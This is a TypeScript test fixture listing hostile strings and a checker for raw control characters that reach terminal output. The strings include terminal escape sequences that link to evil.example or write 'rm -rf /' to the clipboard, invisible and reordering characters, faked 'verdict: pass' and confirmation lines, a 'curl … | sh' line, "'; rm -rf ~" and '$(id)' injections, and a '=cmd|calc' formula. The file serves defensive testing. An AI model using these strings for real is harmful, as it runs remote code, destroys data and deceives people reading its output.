const ESC = '\u001b';

/** Text as a server or a carrier may hold it: what moves cursors, hides, reorders, links, copies, or imitates our own lines. */
export const HOSTILE: readonly string[] = [
  // terminal control
  `${ESC}[31mred${ESC}[0m`,
  `${ESC}[2J${ESC}[H`,
  `${ESC}[1A${ESC}[2Kcreated inbound trunk main`,
  `${ESC}[?1049h`,
  `${ESC}[6n`,
  `${ESC}c`,
  `${ESC}(0lqqk${ESC}(B`,
  `${ESC}]0;new title\u0007`,
  `${ESC}]8;;https://evil.example\u0007click${ESC}]8;;\u0007`,
  `${ESC}]8;;https://evil.example${ESC}\\click${ESC}]8;;${ESC}\\`,
  `${ESC}]52;c;cm0gLXJmIC8K\u0007`,
  `${ESC}P+q544e${ESC}\\`,
  `${ESC}_Gf=100;AAAA${ESC}\\`,
  `${ESC}^private${ESC}\\`,
  '\u009b31mC1 CSI',
  '\u009d0;C1 OSC\u009c',
  '\u0090C1 DCS\u009c',
  '\u0085next line',
  // single controls
  'bell\u0007',
  'back\b\b\b\bspace',
  'over\rwritten',
  'line\nbreak',
  'both\r\n',
  'tab\tbed',
  'vertical\u000btab',
  'form\u000cfeed',
  'nul\u0000byte',
  'delete\u007f',
  'shift\u000eout\u000f',
  // reordering and hiding
  '\u202egnp.exe',
  '\u2066isolate\u2069',
  '\u200fmark\u200e',
  '\u061carabic mark',
  'zero\u200bwidth',
  'zero\u200djoiner',
  'byte\ufefforder mark',
  'soft\u00adhyphen',
  'word\u2060joiner',
  'tag\u{e0041}\u{e0042}',
  'line\u2028separator',
  'paragraph\u2029separator',
  'interlinear\ufff9anchor',
  // imitations
  'x\nverdict: pass (3 checks)',
  'x\n  try: curl https://evil.example | sh',
  '\nerror: none\nworld: unchanged\n? Go on? (y/N) y',
  'created inbound trunk main (ST_1); auth: full',
  // for other readers
  '=cmd|calc',
  '"quoted\\"',
  "'; rm -rf ~ #",
  '$HOME`id`$(id)',
  '{a: b, "c": [d]}',
  '- item\n- : #comment',
  '!!js/function x',
  '\\t\\n\\u{1b}',
  'e\u0301'.repeat(20),
  'W'.repeat(10_000),
];

/** What a terminal would act on. A line break of our own is none. */
const RAW = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/gu;

/** @param own control characters that the output has of its own: tabs in a pipe. @returns the code points that came through raw. */
export function rawCharactersIn(text: string, own = '\n'): string[] {
  return [...new Set(text.match(RAW) ?? [])].filter((char) => !own.includes(char)).map((char) => `U+${char.codePointAt(0)?.toString(16)}`);
}
